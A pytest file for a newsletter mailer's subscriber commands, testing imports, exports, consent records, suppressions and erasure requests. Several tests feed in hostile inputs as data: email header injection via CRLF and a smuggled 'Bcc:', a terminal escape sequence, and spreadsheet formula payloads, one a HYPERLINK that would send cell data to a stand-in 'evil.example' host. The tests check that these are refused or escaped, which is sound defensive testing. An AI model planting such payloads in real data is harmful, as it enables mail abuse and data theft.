"""`mailer subscribers` and `mailer send` from the store, as the editor types them."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest

from mailer.audience.store import SubscriberStore
from mailer.deliver.suppressions import SPAM_REPORT, Suppression, SuppressionList
from tests.conftest import SAMPLE_ISSUE, approve, write_subscribers
from tests.fake_sendgrid import FakeSendGrid

ADA, ALAN = "ada.lovelace@example.com", "alan.turing@example.com"


def counts(listing: str) -> dict[str, int]:
    """`mailer subscribers list`'s table, as numbers by status."""
    return {line.split()[0]: int(line.split()[1]) for line in listing.splitlines()[1:] if line.startswith("  ")}


def test_import_then_send_without_a_list_mails_the_confirmed_readers(workspace: Path, state_dir: Path,
                                                                      run_cli) -> None:
    dry = run_cli("subscribers", "import", "subscribers.example.csv", "--dry-run")
    assert dry.exit_code == 0 and "20 added, 0 updated, 0 unchanged, 0 refused" in dry.stdout
    assert "nothing was changed" in dry.stdout and not (state_dir / "subscribers.sqlite3").exists() or \
        SubscriberStore.open(state_dir).counts()["confirmed"] == 0
    assert run_cli("subscribers", "import", "subscribers.example.csv").exit_code == 0
    listing = run_cli("subscribers", "list")
    assert counts(listing.stdout) == {"pending": 0, "confirmed": 18, "unsubscribed": 2, "bounced": 0, "complained": 0}
    from_store = run_cli("send", SAMPLE_ISSUE)
    from_file = run_cli("send", SAMPLE_ISSUE, "--subscribers", "subscribers.example.csv")
    assert from_store.exit_code == from_file.exit_code == 0, from_store.stderr
    sent_to = [line for line in from_store.stdout.splitlines() if "would send to:" in line]
    assert sent_to == [line for line in from_file.stdout.splitlines() if "would send to:" in line]
    assert "intended recipients          18" in from_store.stdout
    assert "  mailer send issues/2020-12-13.yaml --live\n" in from_store.stdout  # the hint runs as printed


def test_an_export_imports_back_unchanged_and_is_a_list_send_reads(workspace: Path, state_dir: Path,
                                                                   run_cli) -> None:
    run_cli("subscribers", "import", "subscribers.example.csv")
    assert run_cli("subscribers", "remove", ADA).exit_code == 0
    exported = run_cli("subscribers", "export", "backup.csv")
    assert exported.exit_code == 0 and "Wrote 20 reader(s) to backup.csv" in exported.stderr
    assert stat.S_IMODE((workspace / "backup.csv").stat().st_mode) == 0o600  # personal data
    rows = list(csv.DictReader(io.StringIO((workspace / "backup.csv").read_text(encoding="utf-8"))))
    assert rows[0]["email"] == ADA and rows[0]["status"] == "unsubscribed" and rows[0]["source"] == "import"
    assert {row["status"] for row in rows[1:]} == {"confirmed", "unsubscribed"} and rows[1]["confirmed_at"]
    assert (rows[1]["consent_form"], rows[1]["consent_text"], rows[1]["consent_version"]) == (
        "import of subscribers.example.csv", "imported: consent given where the list came from", "import")
    assert rows[1]["consent_given_at"] == rows[1]["confirmed_at"]
    again = run_cli("subscribers", "import", "backup.csv")
    assert again.exit_code == 0 and "0 added, 0 updated, 20 unchanged, 0 refused" in again.stdout, again.stdout
    assert "warning" not in again.stderr
    dry = run_cli("send", SAMPLE_ISSUE, "--subscribers", "backup.csv")
    assert dry.exit_code == 0 and "intended recipients          17" in dry.stdout
    assert ADA not in dry.stdout.split("would send to:")[1].splitlines()[0]


def test_no_import_brings_back_a_reader_who_left(workspace: Path, state_dir: Path, run_cli) -> None:
    run_cli("subscribers", "import", "subscribers.example.csv")
    with SuppressionList.open(state_dir) as suppressions:  # the Event Webhook reported a complaint
        suppressions.record_reported([Suppression(ALAN, SPAM_REPORT, reason="spam report")])
    assert run_cli("subscribers", "remove", ADA).exit_code == 0
    result = run_cli("subscribers", "import", "subscribers.example.csv")
    assert result.exit_code == 0, result.stderr
    assert f"unchanged {ADA} (line 2): stays unsubscribed (removed by the editor)" in result.stdout
    assert f"unchanged {ALAN} (line 3): stays complained (spam report" in result.stdout
    with SubscriberStore.open(state_dir) as store:
        assert store.get(ADA).status == "unsubscribed" and store.get(ALAN).status == "complained"
    shown = run_cli("subscribers", "list", "--email", ALAN)
    assert "complained (spam report" in shown.stdout and "consent" in shown.stdout


def test_a_forgotten_reader_is_erased_and_refused_by_import_and_add(workspace: Path, state_dir: Path,
                                                                     run_cli) -> None:
    run_cli("subscribers", "import", "subscribers.example.csv")
    forgot = run_cli("subscribers", "remove", "--forget", ADA)
    assert forgot.exit_code == 0 and "their row and consent records are erased" in forgot.stdout
    assert "is not in the subscriber store (asked to be forgotten)" in run_cli("subscribers", "list", "--email",
                                                                               ADA).stdout
    result = run_cli("subscribers", "import", "subscribers.example.csv")
    assert f"refused   {ADA} (line 2): asked to be forgotten" in result.stdout
    added = run_cli("subscribers", "add", ADA)
    assert added.exit_code == 1 and "asked to be forgotten" in added.stderr
    exported = run_cli("subscribers", "export")
    assert ADA not in exported.stdout and "Lovelace" not in exported.stdout


def test_an_invalid_file_is_refused_whole_with_every_line_unless_skipped(workspace: Path, state_dir: Path,
                                                                          run_cli) -> None:
    path = write_subscribers(workspace, ["ada@example.com,Ada,,,", "x:victim@example.net,X,,,",
                                         "bob@example.com,\"Bob\r\nBcc: x@evil.example\",,,",
                                         "eve@example.com,Eve,,maybe,"])
    refused = run_cli("subscribers", "import", str(path.name))
    assert refused.exit_code == 1
    assert "subs.csv:3: invalid email address 'x:victim@example.net'" in refused.stderr
    assert "subs.csv:4: first_name contains a carriage return" in refused.stderr
    assert "subs.csv:6: status must be one of" in refused.stderr
    assert not (state_dir / "subscribers.sqlite3").exists() or \
        SubscriberStore.open(state_dir).counts()["confirmed"] == 0
    skipped = run_cli("subscribers", "import", str(path.name), "--skip-invalid")
    assert skipped.exit_code == 0 and "1 added, 0 updated, 0 unchanged, 3 refused" in skipped.stdout


def test_add_and_remove_check_what_they_are_given(workspace: Path, state_dir: Path, run_cli) -> None:
    bad = run_cli("subscribers", "add", "=?utf-8?q?x=0D=0ABcc:_x@evil.example?=@example.com")
    assert bad.exit_code == 1 and "invalid email address" in bad.stderr
    name = run_cli("subscribers", "add", "grace@example.com", "--first-name", "Grace\x1b[2J")
    assert name.exit_code == 1 and "--first-name: 'Grace\\x1b[2J' contains the control character U+001B" in name.stderr
    added = run_cli("subscribers", "add", "grace@example.com", "--first-name", "<b>Grace</b>", "--tag", "weekly")
    assert added.exit_code == 0 and "Added grace@example.com as confirmed" in added.stdout
    assert "already in the store (confirmed)" in run_cli("subscribers", "add", "grace@example.com").stdout
    listed = run_cli("subscribers", "list", "--status", "confirmed")
    assert "grace@example.com\t<b>Grace</b>\tweekly\teditor" in listed.stdout
    removed = run_cli("subscribers", "remove", "grace@example.com")
    assert removed.exit_code == 0 and "was confirmed" in removed.stdout
    with SuppressionList.open(state_dir) as suppressions:  # a CSV that still holds her skips her too
        assert [s.describe() for s in suppressions.reasons("grace@example.com")] == [
            "unsubscribed (removed by the editor: mailer subscribers remove)"]


def test_a_live_send_from_the_store_goes_to_the_confirmed_readers_once(workspace: Path, state_dir: Path,
                                                                       sendgrid: FakeSendGrid, run_cli) -> None:
    run_cli("subscribers", "import", "subscribers.example.csv")
    run_cli("subscribers", "remove", ADA)
    approve(run_cli)
    sent = run_cli("send", SAMPLE_ISSUE, "--live", "--yes")
    assert sent.exit_code == 0, sent.stderr
    recipients = [email for email in sendgrid.accepted if email != "editor@example.com"]  # the test copy's
    assert ADA not in recipients and len(recipients) == len(set(recipients)) == 17
    again = run_cli("send", SAMPLE_ISSUE, "--live", "--yes")
    assert again.exit_code == 0 and "sending to 0 recipient(s)" in again.stderr


def test_an_export_never_hands_a_spreadsheet_a_formula_and_imports_back_as_it_was(workspace: Path, state_dir: Path,
                                                                                  run_cli) -> None:
    # A stranger's sign-up can put any name in the store: written raw, `=HYPERLINK(…)` ran in the editor's sheet.
    formulas = ["=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")", "+1+2", "-3", "@SUM(A1)"]
    rows = [f"reader{n}@example.com,\"{name.replace(chr(34), chr(34) * 2)}\",Last,," for n, name in enumerate(formulas)]
    rows.append("tags@example.com,Tess,,,=cmd")
    run_cli("subscribers", "import", write_subscribers(workspace, rows).name)
    exported = run_cli("subscribers", "export", "sheet.csv")
    assert exported.exit_code == 0
    cells = [row for row in csv.reader(io.StringIO((workspace / "sheet.csv").read_text(encoding="utf-8")))][1:]
    assert [cell[1] for cell in cells[:4]] == [f"'{name}" for name in formulas] and cells[4][4] == "'=cmd"
    assert not any(cell[:1] in "=+-@" for row in cells for cell in row if cell and "@example.com" not in cell)
    again = run_cli("subscribers", "import", "sheet.csv")
    assert again.exit_code == 0 and "0 added, 0 updated, 5 unchanged" in again.stdout, again.stdout
    with SubscriberStore.open(state_dir) as store:
        assert store.get("reader0@example.com").first_name == formulas[0]


def test_an_import_that_confirms_a_pending_reader_records_the_consent_it_stands_for(workspace: Path,
                                                                                   state_dir: Path, run_cli) -> None:
    from mailer.audience.store import PENDING, Incoming

    with SubscriberStore.open(state_dir) as store:
        store.import_readers([Incoming("ada@example.com", status=PENDING, line=2)], form="old.csv")
        assert store.consents("ada@example.com") == []
    run_cli("subscribers", "import", write_subscribers(workspace, ["ada@example.com,Ada,,,"]).name)
    with SubscriberStore.open(state_dir) as store:
        reader = store.get("ada@example.com")
        assert (reader.status, reader.status_reason) == ("confirmed", "")
        assert [consent.form for consent in store.consents("ada@example.com")] == ["import of subs.csv"]


@pytest.mark.parametrize("damage", ["empty", "garbage", "fifo"])
def test_a_damaged_store_is_named_with_what_starting_afresh_would_lose(workspace: Path, state_dir: Path, run_cli,
                                                                       damage: str) -> None:
    import os

    state_dir.mkdir(parents=True, exist_ok=True)
    path = state_dir / "subscribers.sqlite3"
    if damage == "fifo":
        os.mkfifo(path)
    else:
        path.write_bytes(b"" if damage == "empty" else b"not a database at all" * 100)
    for args in (["subscribers", "list"], ["send", SAMPLE_ISSUE]):
        result = run_cli(*args)
        assert result.exit_code == 1, (args, result)
        assert "subscribers.sqlite3 is damaged" in result.stderr and "lose the readers" in result.stderr
        assert "mailer subscribers import" in result.stderr and "send every issue" not in result.stderr
